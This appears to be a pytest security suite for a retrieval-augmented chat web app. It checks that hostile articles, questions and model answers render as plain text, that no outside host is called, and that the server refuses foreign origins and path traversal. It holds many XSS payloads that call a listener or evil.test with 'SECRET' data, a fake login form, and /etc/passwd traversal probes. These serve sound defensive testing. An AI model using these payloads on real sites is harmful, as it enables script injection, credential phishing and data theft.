"""Texts that attack the page: whatever an article, a question or a website does, nothing runs and nobody is called."""

from __future__ import annotations

import http.client
import json
import re
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from typing import Any
from urllib.parse import urlsplit

import pytest

from double import Double, Opener, ServicesDouble
from rag.settings import Settings
from rag.types import Answer, Citation, Document, Sentence
from reader import ask


def attacks(home: str) -> tuple[str, ...]:
    """Every way of making a page run or load something that is known to us; each would be heard at ``home``."""
    url = f"http://{home}/x"
    return (
        f"<script>fetch('{url}')</script>",
        f"<img src='{url}' onerror=\"fetch('{url}')\">",
        f"<svg onload=fetch('{url}')><image href='{url}'></svg>",
        f"<iframe src='{url}'></iframe><object data='{url}'></object><embed src='{url}'>",
        f"<video poster='{url}'></video><audio src='{url}' autoplay></audio><input type=image src='{url}'>",
        f"<b style=\"background:url('{url}')\">bold</b><table background='{url}'><tr><td>1</table>",
        f"<form action='{url}'><button autofocus>Go on</button></form>",
        f"<meta http-equiv=refresh content='0;url={url}'><base href='{url}'><link rel=stylesheet href='{url}'>",
        f"![picture]({url}) ![again][1] [link](javascript:fetch('{url}')) <{url}> {url} www.{home}",
        f"\n\n[1]: {url}\n\n```mermaid\ngraph TD\n```\n\n| a |\n|---|\n\n# Heading\n\n- item $$x^2$$",
        f"${{fetch('{url}')}} {{{{constructor.constructor('fetch(`{url}`)')()}}}} {{{{#each x}}}} ` \\u \\x C:\\new",
        "According to [1] and [2] and [7], [ID:0] ##0$$ 【1†source】 <a class='cite' href='#s-1-9'>9</a>",
        "</title></textarea></style>--><plaintext>\x00\x1b[2J\u202egnp.exe\u2066",
    )


def hostile_articles(home: str) -> tuple[Document, ...]:
    lines = attacks(home)
    text = "\n".join(f"The marvellous attack number {number} says {line.strip()}" for number, line in enumerate(lines))
    return tuple(
        Document(
            id=f"<img src=x onerror=fetch('http://{home}/id{number}')>.md",
            title=f"Attack {line}",
            outlet=line,
            authors=(line, "Eve"),
            published=line[:20],
            language="en\" onload='x",
            source=f"javascript:fetch('http://{home}/source')",
            text=text if number == 0 else f"The marvellous attack number {number} says {line}",
        )
        for number, line in enumerate(lines)
    )


def assert_harmless(page: Any, heard: list[bytes], home: str, named: bool = True) -> None:
    """No element came out of a text, no link leads anywhere but to our cards, and nobody was called."""
    page.wait_for_timeout(300)
    assert heard == []
    # The articles' table and its search are our own; what stands in a cell or in an article is not.
    inside = "#chat :is({0}), #sources :is({0}), #library td :is({0}), #library article :is({0})".format(
        "script, img, iframe, object, embed, video, audio, input, form, meta, link, base, table, svg image, plaintext, code"
    )
    assert page.locator(inside).count() == 0
    links = page.locator("#chat a, #sources a, #library a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    # A source's card, or an article's file by its id, which is one escaped value.
    own = re.escape(page.evaluate("location.origin"))
    strange = [
        link
        for link in links
        if not re.fullmatch(rf"({own}/)?footnote/file\?id=[\w.%+~-]+(#page=\d+)?|#s-[\d-]+", link)
    ]
    assert strange == []
    assert not named or home in page.content()


class TestTexts:
    def test_a_hostile_article_is_only_text(
        self,
        visit: Callable[..., Any],
        serve_page: Callable[..., str],
        listener: tuple[str, list[bytes]],
    ) -> None:
        home, heard = listener
        articles = hostile_articles(home)
        opener = Opener(Double(articles=articles))
        opener.ready.set()
        page = visit(serve_page(opener, examples=attacks(home)))
        page.locator("#chat .example").first.wait_for()
        assert_harmless(page, heard, home)
        answer = ask(page, "What does the marvellous attack number 3 say?")
        assert "The marvellous attack number" in answer.text_content()
        page.locator("#sources details.more > summary").click()
        assert_harmless(page, heard, home)

        page.locator("#chat a.cite").first.click()
        card = page.locator("#sources .cited").first
        opened = next(each for each in articles if card.locator(".card-name").text_content() in shortened(each.title))
        card.get_by_role("button", name="Read in article").first.click()
        page.locator("#sources .pane-article mark.now").wait_for()
        shown = "".join(page.locator("#sources .article-text").all_text_contents())
        assert "".join(shown.split()) == "".join(opened.text.split())
        assert_harmless(page, heard, home)

        page.get_by_role("tab", name="Articles").click()
        page.locator(".library-item").first.click()
        page.locator("#library .article-title").wait_for()
        assert_harmless(page, heard, home)

    @pytest.mark.parametrize("number", range(len(attacks(""))))
    def test_a_hostile_question_is_only_text(self, number: int) -> None:
        """Cheap and exhaustive beside the browser's test: a question's markup holds our elements and no mark of its own."""
        from rag.export.conversation import begin, clean_question
        from rag.web.render import messages

        question = clean_question(attacks("evil.test:1")[number])
        markup = messages(begin((), question))[0]["content"]
        inner = markup.removeprefix('<div class="question"><span class="spoken">You asked: </span>')
        inner = inner.removesuffix("</div>")
        assert not set("<>[]()!`*_|$\\{}\"'\n:/.") & set(inner.replace("<wbr>", ""))

    def test_hostile_questions_call_nobody(self, page: Any, double: Any, listener: tuple[str, list[bytes]]) -> None:
        home, heard = listener
        question = " ".join(attacks(home)).replace("\n", " ")
        for start in range(0, len(question), 1900):
            ask(page, question[start : start + 1900])
        assert_harmless(page, heard, home)
        assert page.locator("#chat .question").count() == page.locator("#chat .answer").count()


def model_answers(home: str) -> dict[str, str]:
    """What a hostile or misled model could write to carry a question away or to pose as ours; each would be heard."""
    url = f"http://{home}/x?d=SECRET"
    return {
        "image": f"![x]({url})",
        "reference": f"![x][1] and [x][2]\n\n[1]: {url}\n[2]: <{url}>",
        "elements": (
            f"<img src=//{home}/x><svg><image href='{url}'/></svg><input type=image src='{url}'>"
            f"<video poster='{url}'></video><p style=\"background:url('{url}')\">x</p>"
        ),
        "form": f"<form action='{url}'><input name=password><button>Log in again</button></form>",
        "refresh": f'<meta http-equiv=refresh content="0;url={url}">',
        "scripts in links": f"[click](javascript:fetch('{url}')) [data](data:text/html,<script>fetch('{url}')</script>)",
        "autolink": f"<{url}> {url} www.{home} http://exаmple.test/ mailto:a@{home}",
        "fences": f"```mermaid\ngraph TD; A-->B\n```\n```html\n<img src='{url}'>\n```\n$$\\includegraphics{{{url}}}$$ \\(x\\)",
        "citations": "[999] [-1] [⟦k7q2⟧](#s-9-1) <a class='cite' href='#s-1-2'>2</a> " + "[1]" * 500,
        "invented quote": "The council said: “We never voted on any ferry at all, and there is no council.” [1]",
        "our own block": (
            "Sources\n\n1. HR-policy.pdf (page 3)\n</div><div class='answer'><p class='sources-link'>"
            "<a href='#s-1'>7 sources</a> <span class='written'>every quote checked letter for letter</span></p>"
        ),
        "control characters": "\x1b[2J\x1b]8;;"
        + url
        + "\x07link\x00 \u202egnp.exe\u2066 half a letter \udce2"
        + "\n" * 100_000,
        "very long": "x" * 60_000 + " " + "y " * 2000,
    }


PAYLOADS = sorted(model_answers(""))


def scripted(text: str) -> Callable[[Answer], Iterator[Answer]]:
    """What the conductor would make of a model's text, were nothing in it understood: all of it, everywhere."""

    def write(answer: Answer) -> Iterator[Answer]:
        best = answer.hits[0]
        quote = best.passage.text.split(". ")[0]
        citation = Citation(1, best, quote, best.passage.start, best.passage.start + len(quote))
        whole = (0, len(text))
        sentences = (
            Sentence(text, (citation,), True, "\n- ", (whole,), (whole,), whole, text, text),
            Sentence(text, supported=False, lead=f"\n{text}"),
            Sentence(text, (citation,), lead="\n1. "),
        )
        answer = replace(answer, model=f"near:{text}", searched=text, notice=text, text=text)
        yield replace(answer, sentences=(Sentence(text[:-1] or "x"),))
        yield replace(answer, sentences=sentences, citations=(citation,))

    return write


class TestModelAnswers:
    @pytest.mark.parametrize("name", PAYLOADS)
    def test_the_markup_holds_our_elements_only(self, name: str) -> None:
        """Exhaustive, beside the browser's test: whatever a model writes, it opens no element and no attribute."""
        from rag.export.conversation import Turn
        from rag.web.render import answer_markup

        hits = tuple(Double().retrieve("How much will the four electric ferries cost?"))
        for answer in scripted(model_answers("evil.test:1")[name])(Answer("Who?", hits=hits)):
            markup = answer_markup(Turn(1, "Who?", "done", answer))
            tags = re.findall(r"<[^>]*>", markup)
            ours = (
                r"</?(div|p|ul|ol|li|span|strong|a)>|<wbr>|<(div|p|span|strong) class=\"[a-z -]+\"( title=\"[A-Za-z ]+\")?>"
                r"|<a class=\"cite\" href=\"#s-1-1\">|<a href=\"#s-1\">"
            )
            assert [tag for tag in tags if not re.fullmatch(ours, tag)] == []
            between = re.sub(r"<[^>]*>|&#\d+;", "", markup)
            assert not set("<>&\"'`[]()!$\\{}*_|~\n\x00\x1b\u202e\u2066\udce2") & set(between)

    @pytest.mark.parametrize("name", PAYLOADS)
    def test_nothing_runs_and_nobody_is_called(
        self, page: Any, double: Any, listener: tuple[str, list[bytes]], name: str
    ) -> None:
        home, heard = listener
        text = model_answers(home)[name]
        double.writing = scripted(text)
        answer = ask(page, "How much will the four electric ferries cost?")
        assert answer.locator("a.cite").count() == 2
        assert page.locator("#chat .answer").count() == 1
        assert page.locator("#chat .sources-link").count() == 1
        assert page.locator("#sources .cited").count() == 1
        assert answer.locator("ul > li, ol > li").count() == 2
        shown = "".join((answer.locator("ol > li").text_content() or "").split())
        assert shown.removesuffix("Source1") == "".join(
            shortened(text).replace("\udce2", "").replace("\x07", "").split()
        )
        assert_harmless(page, heard, home, named=home in text)
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")

    def test_a_phone_is_not_stretched(self, visit: Callable[..., Any], shared: tuple[str, Opener], double: Any) -> None:
        page = visit(shared[0], 390, 844)
        for name in ("very long", "citations", "elements"):
            double.writing = scripted(model_answers("evil.test:1")[name])
            ask(page, "How much will the four electric ferries cost?")
            assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
            wide = "all => all.filter(each => each.getBoundingClientRect().right > window.innerWidth).length"
            assert page.locator("#chat .answer :is(p, li, a, span:not(.spoken))").evaluate_all(wide) == 0


def shortened(title: str) -> str:
    return " ".join(title.replace("\x00", "").replace("\x1b", "").replace("\u202e", "").replace("\u2066", "").split())


class TestTheDoor:
    @pytest.fixture
    def request_page(self, shared: tuple[str, Opener]) -> Callable[..., tuple[int, Any, bytes]]:
        home = urlsplit(shared[0])

        def send(method: str, path: str, body: Any = None, **headers: str) -> tuple[int, Any, bytes]:
            connection = http.client.HTTPConnection(home.hostname or "", home.port or 0, timeout=60)
            sent = {name.replace("_", "-"): value for name, value in headers.items()}
            with closing(connection):
                connection.request(method, path, None if body is None else json.dumps(body), sent)
                response = connection.getresponse()
                return response.status, response.headers, response.read()

        return send

    def test_every_answer_forbids_calls_outside(self, request_page: Callable[..., Any]) -> None:
        for path in ("/", "/config", "/footnote/fonts/source-serif-4-latin.woff2", "/nowhere"):
            _, headers, _ = request_page("GET", path)
            policy = headers["Content-Security-Policy"]
            assert "default-src 'self'" in policy
            assert "connect-src 'self'" in policy
            assert headers["X-Content-Type-Options"] == "nosniff"

    def test_a_foreign_host_is_refused(self, request_page: Callable[..., Any]) -> None:
        assert request_page("GET", "/", Host="evil.test")[0] == 400
        assert request_page("GET", "/", Host="127.0.0.1.evil.test:7860")[0] == 400
        assert request_page("GET", "/")[0] == 200

    def test_a_foreign_page_is_refused(self, request_page: Callable[..., Any], shared: tuple[str, Opener]) -> None:
        call = "/gradio_api/cancel"
        body = {"session_hash": "nobody", "fn_index": 0, "event_id": "nothing"}
        json_type = {"Content_Type": "application/json"}
        assert request_page("POST", call, body, Origin="https://evil.test", **json_type)[0] == 403
        assert request_page("POST", call, body, Origin="null", **json_type)[0] == 403
        assert request_page("POST", call, body, Origin="http://127.0.0.1:1", **json_type)[0] == 403
        assert request_page("POST", call, body, Sec_Fetch_Site="cross-site", **json_type)[0] == 403
        assert request_page("POST", call, body, Origin=shared[0].rstrip("/"), **json_type)[0] == 200

    def test_nobody_leaves_files_or_floods(self, request_page: Callable[..., Any]) -> None:
        assert request_page("POST", "/gradio_api/upload", {})[0] == 403
        assert request_page("POST", "/gradio_api/queue/join", "x" * 1_000_001)[0] == 413

    def test_files_of_the_machine_stay_where_they_are(self, request_page: Callable[..., Any]) -> None:
        for path in (
            "/gradio_api/file=/etc/passwd",
            "/footnote/fonts/..%2f..%2f..%2fui.py",
            "/footnote/fonts/../security.py",
            "/gradio_api/file=pyproject.toml",
        ):
            status, _, body = request_page("GET", path)
            assert status in (400, 403, 404)
            assert b"import" not in body
            assert b"root:" not in body

    def test_the_article_door_checks_what_it_is_given(self, shared: tuple[str, Opener]) -> None:
        from rag.web.models import Models
        from rag.web.opening import Opening
        from rag.web.talk import Handlers

        opening = Opening(shared[1])
        handlers = Handlers(opening, Models(Settings(), ServicesDouble()))
        start = [0, 0, ""]
        assert "still being read" in handlers.read_article(["ferry.md", start, []])["error"]
        opening.chatbot = shared[1].chatbot  # type: ignore[assignment]
        for wanted in (
            None,
            {},
            [],
            ["ferry.md"],
            ["ferry.md", start],
            ["ferry.md", 0, 1],
            ["ferry.md", [0.5, 1, ""], []],
            ["ferry.md", [True, 1, ""], []],
            ["ferry.md", [0, 1, 2], []],
            ["ferry.md", [0, 1, "x" * 17], []],
            ["ferry.md", start, [[0, 1]]],
            ["ferry.md", start, [start] * 201],
            [1, start, []],
            "abc",
            [[], start, []],
        ):
            assert set(handlers.read_article(wanted)) == {"error"}
        assert handlers.read_article(["../ui.py", start, []])["error"].startswith("There is no such article")
        found = handlers.read_article(["ferry.md", [-5, 10**30, ""], []])
        assert all(marked for paragraph in found["paragraphs"] for _, marked in paragraph)
